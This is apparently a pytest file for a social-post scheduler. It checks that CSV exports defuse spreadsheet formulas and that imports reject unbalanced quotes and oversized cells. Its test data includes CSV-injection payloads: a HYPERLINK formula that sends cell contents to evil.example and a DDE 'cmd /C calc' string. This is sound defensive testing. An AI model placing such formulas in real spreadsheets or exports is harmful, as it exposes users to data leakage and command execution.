"""CSV files against the security review (issue 13): no spreadsheet formula in any CSV postsched
writes, the quote read back on import; an unbalanced quote or a huge cell in an imported file
refused naming its line."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from scheduler.app import App
from tests.conftest import run
from tests.test_exchange import write
from tests.test_refusals import assert_refused, refused_unchanged
from tests.test_web import client, officer, officer_app, post_form, text_of, web  # noqa: F401

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3 personnes inscrites",
    "'=déjà entre guillemets",  # a text that genuinely starts with a quote, then a trigger
    "'Tis the season",  # a quote the exporter has no reason to touch
    "''=deux guillemets",
)


def cells(data: bytes, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(TRIGGERS), (name, value)


# 1. spreadsheet formulas ----------------------------------------------------------------------


def test_export_csv_writes_no_formula_and_import_reads_the_texts_back(project: Path) -> None:
    assert run("init").code == 0
    for day, text in enumerate(FORMULAS, start=1):
        assert run("add", "mastodon", "--at", f"2027-03-{day:02}T09:30", "--text", text).code == 0
    target = project / "export.csv"
    assert run("export", "--csv", str(target)).code == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid;"), "UTF-8 with a BOM and ; for French, as before"
    rows = cells(data, ";")
    assert_no_formula(rows)
    assert [row["body"] for row in rows] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3 personnes inscrites",
        "''=déjà entre guillemets",
        "'Tis the season",
        "'''=deux guillemets",
    ]

    (project / "postsched.db").unlink()
    assert run("init").code == 0
    result = run("import", "--csv", str(target), "--json")
    assert result.code == 0, result.err
    assert [post["body"] for post in json.loads(result.out)] == list(FORMULAS)


def test_log_csv_and_a_url_a_network_sent_back_are_neutralised(planned: Path) -> None:
    with sqlite3.connect(planned) as db:
        db.execute("update posts set remote_url = '=HYPERLINK(\"x\")' where id = 1")
        db.execute(
            "insert into events (post_id, at, event, detail) "
            "values (1, '2026-01-06 10:00:00.000000', '@failed', '-1+2 from the network')"
        )
    result = run("log", "--csv")
    assert result.code == 0, result.err
    rows = cells(result.out.encode(), ",")
    assert_no_formula(rows)
    mine = {"event": "'@failed", "detail": "'-1+2 from the network"}
    assert [row for row in rows if mine.items() <= row.items()]
    target = planned.parent / "out.csv"
    assert run("export", "--csv", str(target)).code == 0
    rows = cells(target.read_bytes(), ";")
    assert_no_formula(rows)
    assert rows[0]["remote_url"] == '\'=HYPERLINK("x")'


def test_the_web_exports_write_no_formula(
    officer: FlaskClient,  # noqa: F811
    officer_app: App,  # noqa: F811
) -> None:
    db = Path(str(officer_app.store.engine.url.database))
    with sqlite3.connect(db) as connection:
        connection.execute("update posts set body = '=1+1 inscrits' where id = 1")
        connection.execute(
            "insert into events (post_id, at, event, detail) "
            "values (1, '2026-01-06 10:00:00.000000', 'failed', '+SUM(A1)')"
        )
    exported = officer.get("/export.csv")
    assert exported.status_code == 200
    rows = cells(exported.data, ";")
    assert_no_formula(rows)
    assert rows[0]["body"] == "'=1+1 inscrits"
    logged = officer.get("/log.csv")
    assert logged.status_code == 200
    rows = cells(logged.data, ",")
    assert_no_formula(rows)
    assert "'+SUM(A1)" in [row["detail"] for row in rows]


# 2. an unbalanced quote -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        # The review's file: the quote runs to the end of the file.
        'channel,time,text\nmastodon,2027-07-01T10:00,"Salon\nmastodon,2027-07-02T10:00,Deux\n',
        # Closed further down, over a line that starts a row.
        'channel,time,text\nmastodon,2027-07-01T10:00,"Salon\nmastodon,2027-07-02T10:00,Deux\n'
        'fin"\n',
        # A row on its own line inside the quote, after a closing quote that is not one.
        'channel;time;text\nmastodon;2027-07-01T10:00;"Salon\nLinkedIn;2027-07-02T10:00;Deux"\n',
        # The swallowed row's channel has a typo: its time still shows it is a row.
        'channel,time,text\nmastodon,2027-07-08T10:00,"Salon\nmastodn,2027-07-09T10:00,Deux\n'
        'fin"\n',
    ],
    ids=["to-the-end", "over-a-row", "french-over-a-row", "typo-over-a-row"],
)
def test_an_unbalanced_quote_is_refused_naming_the_line_it_opened(planned: Path, text: str) -> None:
    result = refused_unchanged(planned, "import", "--csv", write(planned.parent, text))
    assert_refused(result, "posts.csv line 2", "quote")


def test_a_text_over_several_lines_in_closed_quotes_is_still_read(planned: Path) -> None:
    text = (
        "channel,time,text\n"
        'mastodon,2027-07-01T10:00,"Salon ""IA""\nsur deux lignes"\r\n'
        "linkedin,2027-07-02T10:00,Deux\r\n"
    )
    result = run("import", "--csv", write(planned.parent, text), "--json")
    assert result.code == 0, result.err
    bodies = [post["body"] for post in json.loads(result.out)]
    assert bodies == ['Salon "IA"\nsur deux lignes', "Deux"]


# 9. a huge cell -------------------------------------------------------------------------------

HUGE = (
    'channel,time,text\nmastodon,2027-07-01T10:00,ok\nmastodon,2027-07-02T10:00,"'
    + ("x" * 140_000)
    + '"\n'
)


def test_a_cell_over_the_csv_limit_is_one_sentence_naming_its_line(planned: Path) -> None:
    result = refused_unchanged(planned, "import", "--csv", write(planned.parent, HUGE))
    assert_refused(result, "posts.csv line 3", "131,072")


def test_the_web_shows_the_same_sentence_for_a_huge_cell(
    officer: FlaskClient,  # noqa: F811
    officer_app: App,  # noqa: F811
) -> None:
    before = len(officer_app.store.list_posts())
    response = post_form(
        officer,
        "/import",
        {"csv": (io.BytesIO(HUGE.encode()), "posts.csv")},
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "posts.csv line 3" in text_of(response) and "131,072" in text_of(response)
    assert len(officer_app.store.list_posts()) == before
